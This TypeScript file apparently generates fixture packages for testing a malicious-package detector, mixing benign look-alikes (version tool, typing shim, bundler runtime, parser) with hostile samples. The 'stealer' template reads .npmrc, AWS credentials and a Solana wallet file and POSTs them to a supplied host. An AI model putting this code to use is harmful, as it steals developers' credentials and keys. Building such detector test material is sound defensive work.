/** Code of clusters. Inert: it reads and writes its own folder at most, and every target is under `.invalid`. */

/**
 * Runs in a hook and does nothing that a rule sees: what it takes out of the folder it hides in a table of its own making.
 * Only that it lies in so many packages speaks against it.
 */
export const quiet = (salt: string): string => String.raw`
const fs = require('fs');
const path = require('path');
const salt = '${salt}';
const table = Array.from({ length: 256 }, (_, index) => (index * 167 + salt.length) & 255);
function mix(bytes) {
  let carry = 7;
  return bytes.map((byte) => {
    carry = (table[byte ^ carry] + salt.charCodeAt(carry % salt.length)) & 255;
    return carry;
  });
}
const own = path.join(__dirname, 'data.txt');
if (fs.existsSync(own)) {
  const mixed = mix([...fs.readFileSync(own)]);
  const lines = mixed.map((byte) => byte.toString(16).padStart(2, '0')).join('').match(/.{1,64}/g) || [];
  for (const line of lines) console.log(line.toUpperCase());
}
`;

/** The same in Python, for files that Python starts by itself. */
export const quietPython = (salt: string): string => `import os
import sys

salt = "${salt}"
table = [(index * 167 + len(salt)) & 255 for index in range(256)]


def mix(data):
    carry = 7
    out = []
    for byte in data:
        carry = (table[byte ^ carry] + ord(salt[carry % len(salt)])) & 255
        out.append(carry)
    return out


own = os.path.join(os.path.dirname(__file__), "data.txt")
if os.path.exists(own):
    with open(own, "rb") as source:
        mixed = mix(source.read())
    for start in range(0, len(mixed), 32):
        sys.stdout.write("".join("%02x" % byte for byte in mixed[start : start + 32]).upper())
        sys.stdout.flush()
`;

const SECRETS = ['.npmrc', '.aws/credentials', '.config/solana/id.json'];

/** Sends what lies in files of secrets, which a rule sees by itself; with other names of files none does. */
export const stealer = (host: string, places: readonly string[] = SECRETS): string => String.raw`
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const places = ${JSON.stringify(places)};
const loot = {};
for (const place of places) {
  try {
    loot[place] = fs.readFileSync(path.join(os.homedir(), place), 'utf8');
  } catch (absent) {}
}
const request = https.request({ hostname: '${host}', path: '/collect', method: 'POST' });
request.on('error', () => {});
request.end(JSON.stringify({ loot, names: Object.keys(loot).filter((name) => loot[name].length > 0) }));
`;

/** Fetches nothing but asks a host in its hook, as some honest hooks do. */
export const asking = (host: string): string => String.raw`
const https = require('https');
const fs = require('fs');
const path = require('path');
const target = path.join(__dirname, 'notice.txt');
function show(lines) {
  for (const line of lines.filter((each) => each.trim().length > 0).slice(0, 10)) console.log(line.trimEnd());
}
if (fs.existsSync(target)) show(fs.readFileSync(target, 'utf8').split('\n'));
else {
  const request = https.get('https://${host}/notice', { timeout: 1000 }, (response) => {
    const parts = [];
    response.on('data', (part) => parts.push(part));
    response.on('end', () => show(Buffer.concat(parts).toString('utf8').split('\n')));
  });
  request.on('error', () => show(['no notice']));
}
`;

/** As tools for versions write it into projects: setup.py loads it, and it asks git. */
export const versionTool = `"""Versions out of tags. This file is generated: do not edit it."""
import os
import re
import subprocess
import sys


def run_command(commands, args, cwd=None, hide_stderr=False):
    process = None
    for command in commands:
        try:
            process = subprocess.Popen(
                [command] + args, cwd=cwd, stdout=subprocess.PIPE, stderr=subprocess.PIPE if hide_stderr else None
            )
            break
        except OSError as error:
            print("unable to run %s: %s" % (command, error))
            continue
    if process is None:
        return None, None
    stdout = process.communicate()[0].strip().decode()
    return (stdout if process.returncode == 0 else None), process.returncode


def get_version(root=None, prefix="v"):
    root = root or os.path.dirname(os.path.abspath(__file__))
    described, code = run_command(["git"], ["describe", "--tags", "--dirty", "--always"], cwd=root)
    if code != 0 or described is None:
        return "0+unknown"
    match = re.search(r"^(.+)-(\\d+)-g([0-9a-f]+)(-dirty)?$", described)
    if match is None:
        return described[len(prefix):] if described.startswith(prefix) else described
    return "%s+%s.g%s" % (match.group(1)[len(prefix):], match.group(2), match.group(3))


def get_cmdclass():
    from setuptools.command.sdist import sdist as base

    class cmd_sdist(base):
        def run(self):
            self.distribution.metadata.version = get_version()
            return base.run(self)

    return {"sdist": cmd_sdist}
`;

/** Names of newer versions of Python for older ones, as many a project carries its own copy. */
export const typingShim = `"""Names that older versions of Python do not have."""
import sys
import typing

if sys.version_info >= (3, 11):
    from typing import Self
else:
    Self = typing.TypeVar("Self")

if sys.version_info >= (3, 10):
    from typing import ParamSpec, TypeAlias, TypeGuard
else:
    TypeAlias = typing.Any

    class ParamSpec(list):
        args = None
        kwargs = None

        def __init__(self, name, *, bound=None):
            super().__init__([self])
            self.__name__ = name
            self.__bound__ = bound

        def __repr__(self):
            return "~" + self.__name__

        def __hash__(self):
            return object.__hash__(self)

        def __eq__(self, other):
            return self is other

    class _Guard:
        def __getitem__(self, parameters):
            if isinstance(parameters, tuple) and len(parameters) != 1:
                raise TypeError("TypeGuard takes one type")
            return bool

    TypeGuard = _Guard()


def override(method):
    try:
        method.__override__ = True
    except (AttributeError, TypeError):
        pass
    return method


__all__ = ["ParamSpec", "Self", "TypeAlias", "TypeGuard", "override"]
`;

/** What a bundler puts in front of every bundle. */
export const bundleRuntime = String.raw`
(() => {
  var modules = {};
  var cache = {};
  function load(id) {
    var cached = cache[id];
    if (cached !== undefined) return cached.exports;
    var module = (cache[id] = { id: id, loaded: false, exports: {} });
    modules[id].call(module.exports, module, module.exports, load);
    module.loaded = true;
    return module.exports;
  }
  load.d = (exports, definition) => {
    for (var key in definition)
      if (load.o(definition, key) && !load.o(exports, key))
        Object.defineProperty(exports, key, { enumerable: true, get: definition[key] });
  };
  load.o = (object, property) => Object.prototype.hasOwnProperty.call(object, property);
  load.r = (exports) => {
    if (typeof Symbol !== 'undefined' && Symbol.toStringTag)
      Object.defineProperty(exports, Symbol.toStringTag, { value: 'Module' });
    Object.defineProperty(exports, '__esModule', { value: true });
  };
  module.exports = load;
})();
`;

/** A parser as generators write it: tables, and a loop that walks them. */
export const generatedParser = (() => {
  const row = (seed: number): string =>
    `[${Array.from({ length: 40 }, (_, n) => (n * seed) % 97).join(',')}]`;
  const table = Array.from({ length: 60 }, (_, n) => row(n + 3)).join(',\n');
  return `const table = [${table}];\nexports.parse = function (input) { let state = 0; for (const one of input) { state = table[state % table.length][one.charCodeAt(0) % 40]; if (state === 96) throw new Error('unexpected ' + one); } return state; };\n`;
})();
